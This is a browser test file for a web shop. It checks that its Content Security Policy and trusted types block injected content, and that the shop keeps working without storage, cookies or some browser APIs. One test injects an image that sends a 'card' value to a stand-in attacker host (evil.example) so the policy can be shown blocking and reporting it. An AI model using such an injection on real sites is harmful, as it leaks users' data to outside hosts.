import { describe, expect, test } from 'vitest';
import { buttonElement, DRAWER, MINI_CART } from '../page/legacyPage';
import { PAPER, productPath } from '../page/products';
import { strictPage, watchViolations } from '../page/strictPage';
import { useEverything } from '../page/useEverything';
import { visit } from '../page/visit';

describe('strict policies and missing browser features', () => {
  test('a content security policy with a nonce, strict-dynamic and trusted types is never violated', async () => {
    const shop = await visit('/strict', {
      pages: { '/strict': strictPage(MINI_CART + buttonElement(PAPER.sku) + DRAWER) },
      before: watchViolations,
    });

    await useEverything(shop);

    expect(await shop.page.evaluate(() => (window as unknown as { violations: string[] }).violations)).toEqual([]);
    expect(await shop.miniCart.panel.evaluate((panel) => getComputedStyle(panel).position)).toBe('fixed');
  });

  test('what the policy of the shop’s pages blocks is listed on its page [DEC-Q392]', async () => {
    const shop = await visit(productPath(PAPER.sku), { complaints: [/Content.Security.Policy/, /TrustedHTML/] });

    await shop.page.evaluate(() => {
      document.head.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/x?card=1' }));
      try {
        document.body.insertAdjacentHTML('beforeend', '<b>x</b>');
      } catch {
        // the policy throws
      }
    });

    // in a tab of its own, because Firefox sends no reports of a page that is left at once
    const { page } = await shop.openTab('/webapp/policy');
    const listed = async () => {
      await page.reload();
      return (await page.getByRole('list', { name: 'Reports' }).textContent()) ?? '';
    };
    await expect.poll(listed).toMatch(/img-src blocked https:\/\/evil\.example\/x on \/webapp\/product\//);
    await expect.poll(listed).toMatch(/require-trusted-types-for blocked trusted-types-sink/);
  });

  test('if storage is denied, everything works, and the cart of the shop is displayed after a reload', async () => {
    const shop = await visit(productPath(PAPER.sku), {
      before: () => {
        for (const name of ['localStorage', 'sessionStorage']) {
          Object.defineProperty(window, name, {
            get: () => {
              throw new DOMException('The operation is insecure.', 'SecurityError');
            },
          });
        }
      },
    });

    await useEverything(shop);
    await shop.fillCart([PAPER]);
    await shop.page.reload();
    await expect.poll(shop.miniCart.count).toBe(1);
  });

  test('if storage is full, everything works', async () => {
    const shop = await visit(productPath(PAPER.sku), {
      before: () => {
        Storage.prototype.setItem = () => {
          throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
        };
      },
    });
    await useEverything(shop);
  });

  test('if scripts may not read cookies, everything works', async () => {
    const shop = await visit(productPath(PAPER.sku), {
      before: () => {
        Object.defineProperty(Document.prototype, 'cookie', {
          get: () => {
            throw new DOMException('The document is sandboxed.', 'SecurityError');
          },
        });
      },
    });
    await useEverything(shop);
  });

  test('in a browser without IntersectionObserver and BroadcastChannel, everything works', async () => {
    const shop = await visit(productPath(PAPER.sku), {
      before: () => {
        for (const name of ['IntersectionObserver', 'BroadcastChannel']) Reflect.deleteProperty(window, name);
      },
    });
    await useEverything(shop);
  });
});
